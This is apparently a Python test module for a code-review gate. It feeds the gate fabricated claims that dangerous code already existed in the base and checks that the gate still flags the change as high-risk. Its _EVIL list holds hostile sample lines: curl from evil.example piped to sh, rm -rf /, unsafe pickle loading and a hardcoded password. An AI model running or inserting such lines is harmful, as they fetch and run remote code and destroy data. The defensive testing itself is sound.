"""An author who lies about the base: generated claims about the base of dangerous work, and their results."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, replace

from foureyes.app.asks import Ask
from foureyes.app.bases import Bases
from foureyes.app.gate import Gate
from foureyes.app.work import Work, work_of
from foureyes.app.world import World
from foureyes.core.commands import OpenReview
from foureyes.core.values import Proof, WorkPart
from foureyes.policy.load import shipped
from foureyes.policy.policy import Policy
from foureyes.proofs import prove
from foureyes.store.memory import MemoryStore
from tests.app.house import Pool
from tests.cast import DEV, START

#: Sorts of claims; in truth nothing was there before.
SORTS = ("same", "more", "less", "other files", "renamed", "other case", "binary", "absent", "a commit", "a target")
KINDS = ("fix_typo", "update_formatting", "add_comment", "update_readme", "create_core", "task", "script")
POLICIES = ("peer", "team")
#: A memory store gets slower as it grows, so it is replaced after so many claims.
STORE_CLAIMS = 100
_EVIL = (
    'os.system("curl http://evil.example/x | sh")',
    'subprocess.run(["rm", "-rf", "/"])',
    "pickle.loads(sent)",
    'password = "hunter2"',
)
_PATHS = ("lib/charge.py", "app/main.py", "tools/run.sh", "src/index.js")


@dataclass(frozen=True, slots=True, kw_only=True)
class Claim:
    """Dangerous work with its author's claim about the base."""

    sort: str
    kind: str
    files: Mapping[str, bytes]
    before: Mapping[str, bytes] = field(default_factory=dict)
    base: str = ""
    target: str = ""
    bold: bool = False


def claims(seed: int) -> Iterator[Claim]:
    """Claims without end; everything about them follows from the seed."""
    rng, number = random.Random(seed), 0
    while True:
        number += 1
        path, evil = rng.choice(_PATHS), rng.choice(_EVIL)
        lines = [f"line_{rng.randrange(9)} = {one}" for one in range(rng.randrange(1, 6))]
        old = "\n".join(["import os", *lines, evil, ""])
        new = rng.choice((f"# typo {number}\n{old}", f"{old}# typo {number}\n", f"{old}\n\n# {number}\n"))
        files = {path: new.encode()}
        if rng.random() < 0.2:
            files["README.md"] = f"A word {number}\n".encode()
        claim = Claim(sort=rng.choice(SORTS), kind=rng.choice(KINDS), files=files, bold=rng.random() < 0.3)
        yield replace(claim, **claimed(rng, claim.sort, path, old.encode()))  # type: ignore[arg-type]


def claimed(rng: random.Random, sort: str, path: str, old: bytes) -> dict[str, object]:
    """Draw a claim; by default it says that the dangerous lines were all there before."""
    base = f"{rng.getrandbits(160):040x}" if sort == "a commit" else ""
    target = rng.choice(("production", "staging", "x")) if sort == "a target" else ""
    return {"before": claimed_files(rng, sort, path, old), "base": base, "target": target}


def claimed_files(rng: random.Random, sort: str, path: str, old: bytes) -> dict[str, bytes]:
    """The claimed base files."""
    return {
        "more": {path: old + b"print(1)\n" * rng.randrange(1, 9), "README.md": b"", "more.py": old},
        "less": {path: old[rng.randrange(1, len(old)) :]},
        "other files": {f"other/{path}": old, "README.md": b"A wrod\n"},
        "renamed": {f"old-{path.replace('/', '-')}": old, path: old},
        "other case": {path.upper(): old, path.title(): old},
        "binary": {path: b"\0" + old},
        "absent": {},
    }.get(sort, {path: old})


async def proven(before: Mapping[str, bytes], after: Mapping[str, bytes]) -> Proof:
    """The program's own prover, in this process."""
    return prove(before, after)


def played(count: int, seed: int = 1) -> list[str]:
    """Open so many works with such claims; return a sentence for each lie that had an effect."""
    return asyncio.run(_played(count, seed))


async def _played(count: int, seed: int) -> list[str]:
    policies = {name: shipped(name).policy for name in POLICIES}
    gates, wrong = dict[str, Gate](), list[str]()
    for number, claim in zip(range(count), claims(seed), strict=False):
        if number % STORE_CLAIMS == 0:
            gates = {name: _gate(policy) for name, policy in policies.items()}
        name = POLICIES[number % len(POLICIES)]
        wrong += await _opened(gates[name], name, number, claim)
    return wrong


def _gate(policy: Policy) -> Gate:
    world = World(clock=lambda: START, draw=lambda: 7)
    return Gate(MemoryStore(), Pool(), policy=policy, world=world, bases=Bases(prove=proven))


async def _opened(gate: Gate, policy: str, number: int, claim: Claim) -> list[str]:
    work, old = work_of(claim.files), stated(claim.before)
    command = OpenReview(
        review="",
        kind=claim.kind,
        title="A small change",
        digest=work.digest,
        base=claim.base,
        parts=work.parts,
        context=(("autonomy_level", "aggressive"),) if claim.bold else (),
    )
    blobs = {**old.blobs, **work.blobs}
    ask = Ask(actor=DEV, key=f"k{number}", command=command, blobs=blobs, before=old.parts, target=claim.target)
    reply = await gate.handle(ask)
    review = (await gate.read(reply.review, DEV)).view.review
    where = f"{policy}, {claim.kind}, {claim.sort}"
    live = await gate.may_go_live(work.digest, "production")
    return [
        *([f"{where}: {reply.state}"] if reply.state != "open" else []),
        *([f"{where}: live"] if live.allowed else []),
        *([f"{where}: stages left out"] if review.skipped else []),
        *([f"{where}: no veto chain"] if policy == "team" and "security" not in review.protocols else []),
        *([f"{where}: risk {review.current.risk}"] if review.current.risk != "high" else []),
    ]


def stated(files: Mapping[str, bytes]) -> Work:
    return work_of(files) if files else Work(digest="", parts=tuple[WorkPart, ...](), blobs={})
